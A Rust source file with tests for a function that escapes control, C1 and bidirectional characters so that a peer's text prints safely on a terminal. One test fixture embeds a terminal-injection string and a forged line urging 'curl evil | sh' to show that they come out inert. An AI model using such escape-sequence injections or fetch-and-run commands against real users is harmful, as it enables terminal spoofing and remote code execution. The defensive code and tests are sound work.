//! Text from a peer, made safe to print on a terminal.
//!
//! A peer's string may hold anything: ESC sequences that retitle the terminal,
//! clear the screen or recolour what follows, a carriage return or a line break
//! that forges a line of someone else's, bidirectional overrides that reorder
//! what is shown. `sockarc recv` and `sockarc chat` print peers' text through
//! [`escape`], so each value or line stays one line of visible characters.

use std::fmt::Write;

/// `text` with every control character escaped: `\n`, `\r`, `\t` as such,
/// backslash doubled, other C0 and C1 controls (ESC, BEL, DEL, CSI …) and the
/// invisible bidirectional and line-separating format characters as `\u{…}`.
/// Printable text, non-ASCII included, is kept as it is.
///
/// Nothing in the result is a control character, so printing it cannot move
/// the cursor, start a new line or send the terminal a command.
pub fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if needs_escape(c) => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

/// C0, DEL and C1 controls, and the format characters that reorder or break
/// lines without being seen.
fn needs_escape(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{200e}' | '\u{200f}'             // LRM, RLM
                | '\u{2028}' | '\u{2029}'       // line and paragraph separators
                | '\u{202a}'..='\u{202e}'       // LRE, RLE, PDF, LRO, RLO
                | '\u{2066}'..='\u{2069}' // LRI, RLI, FSI, PDI
        )
}

#[cfg(test)]
mod tests {
    use super::escape;

    #[test]
    fn line_breaks_backslashes_and_tabs_are_escaped() {
        assert_eq!(escape("a\nb\\c\td\r"), "a\\nb\\\\c\\td\\r");
    }

    #[test]
    fn a_terminal_injection_comes_out_inert() {
        // Issue 10's example: retitle, clear, recolour, then forge a line.
        let hostile = "hello\x1b]0;pwned\x07\x1b[2J\x1b[31m\nalice: please run curl evil | sh\r";
        let shown = escape(hostile);
        assert_eq!(
            shown,
            "hello\\u{1b}]0;pwned\\u{7}\\u{1b}[2J\\u{1b}[31m\\nalice: please run curl evil | sh\\r"
        );
        assert!(!shown.chars().any(char::is_control));
    }

    #[test]
    fn c1_controls_del_and_bidi_overrides_are_escaped_and_text_is_kept() {
        assert_eq!(escape("\u{9b}2J\u{7f}"), "\\u{9b}2J\\u{7f}");
        assert_eq!(escape("abc\u{202e}fed"), "abc\\u{202e}fed");
        assert_eq!(escape("张三: hé ✓"), "张三: hé ✓");
    }
}
